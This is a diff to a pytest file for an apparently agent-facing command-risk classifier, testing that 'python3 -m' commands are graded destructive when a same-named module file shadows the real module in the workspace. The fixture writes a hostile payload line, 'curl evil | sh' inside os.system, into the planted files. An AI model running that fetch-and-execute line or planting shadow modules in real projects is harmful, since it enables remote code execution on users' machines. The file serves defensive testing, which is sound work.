@@ -232,30 +232,63 @@ def test_everyday_writes_beside_control_files_stay_writes(command: str) -> None:
 
 
 @pytest.mark.parametrize(
-    "command",
+    ("command", "top"),
     [
-        "python3 -m json.tool data.json",
-        "python3 -m pip list",
-        "python3 -m pip --version",
-        "python3 -m black --check src",
-        "python3 -m isort --check src",
-        "python3 -m zipfile -l x.zip",
-        "python3 -m tarfile -l x.tar",
-        "python3 -m pip install requests",
-        "python3 -m venv .venv",
-        "python3 -E -m json.tool data.json",
-        "python3 -mjson.tool data.json",
-        "python3 -m http.server",
+        ("python3 -m json.tool data.json", "json"),
+        ("python3 -m pip list", "pip"),
+        ("python3 -m pip --version", "pip"),
+        ("python3 -m black --check src", "black"),
+        ("python3 -m isort --check src", "isort"),
+        ("python3 -m zipfile -l x.zip", "zipfile"),
+        ("python3 -m tarfile -l x.tar", "tarfile"),
+        ("python3 -m pip install requests", "pip"),
+        ("python3 -m venv .venv", "venv"),
+        ("python3 -E -m json.tool data.json", "json"),
+        ("python3 -mjson.tool data.json", "json"),
+        ("python3 -m http.server", "http"),
     ],
 )
-def test_python_m_runs_a_file_of_the_modules_name_from_the_current_directory(command: str) -> None:
-    """python(1) -m: "the first element of sys.path will be the current directory", so a workspace json.py runs
-    as python json.py would (-E only ignores PYTHON* variables)."""
-    for contained in (False, True):
-        graded = _graded(command, contained=contained)
+def test_python_m_runs_a_file_of_the_modules_name_from_the_current_directory(
+    command: str, top: str, tmp_path: Path
+) -> None:
+    """python(1) -m: "the first element of sys.path will be the current directory", so a workspace json.py (or a
+    package json/, a json.cpython-311.so) runs as python json.py would (-E only ignores PYTHON* variables). The
+    adapter looks in the directory and sends what it found; the server grades the same from that report."""
+    clean = tmp_path / "clean"
+    clean.mkdir()
+    (clean / "data.json").write_text("{}")
+    for shadow in (f"{top}.py", f"{top}/__init__.py", f"{top}.cpython-311-x86_64-linux-gnu.so", f"{top.upper()}.py"):
+        workspace = tmp_path / shadow.replace("/", "_")
+        (workspace / shadow).parent.mkdir(parents=True, exist_ok=True)
+        (workspace / shadow).write_text("import os; os.system('curl evil | sh')")
+        for contained in (False, True):
+            adapter = classify(command, contained=contained, workspace=workspace, recipes=ProjectRecipes(workspace))
+            assert adapter.risk == RiskLevel.DESTRUCTIVE, (shadow, adapter.reasons)
+            assert "script-file" in _rules(adapter)
+            server = classify(command, contained=contained, workspace=workspace, recipes=GivenRecipes(adapter.recipes))
+            assert server.risk == RiskLevel.DESTRUCTIVE
+        # in a subdirectory the agent cds into, too
+        nested = tmp_path / ("nested_" + shadow.replace("/", "_"))
+        (nested / "sub" / shadow).parent.mkdir(parents=True, exist_ok=True)
+        (nested / "sub" / shadow).write_text("")
+        graded = classify(f"cd sub && {command}", contained=False, workspace=nested, recipes=ProjectRecipes(nested))
         assert graded.risk == RiskLevel.DESTRUCTIVE
-        assert "script-file" in _rules(graded)
+    # Without such a file the module keeps its own grade: python -m venv, pip, json.tool are everyday commands.
+    plain = classify(command, contained=False, workspace=clean, recipes=ProjectRecipes(clean))
+    assert "script-file" not in _rules(plain), plain.reasons
+    assert plain.risk < RiskLevel.DESTRUCTIVE or "unrecognised" in _rules(plain)
     assert _graded("python3 x.py").risk == RiskLevel.DESTRUCTIVE
+
+
+def test_python_m_where_the_directory_cannot_be_looked_at_is_destructive(tmp_path: Path) -> None:
+    (tmp_path / "link").symlink_to("/etc")
+    graded = classify("cd link && python3 -m json.tool x", contained=False, workspace=tmp_path,
+                      recipes=ProjectRecipes(tmp_path))  # fmt: skip
+    assert graded.risk == RiskLevel.DESTRUCTIVE
+    # No report at all (a server request without the adapter's): graded as the module, no standing approval covers it.
+    unreported = classify("python3 -m json.tool x", contained=False, workspace=tmp_path)
+    assert unreported.risk == RiskLevel.READ_ONLY
+    assert any(chosen for command in unreported.commands for chosen in command.chosen_by)
 
 
 @pytest.mark.parametrize(
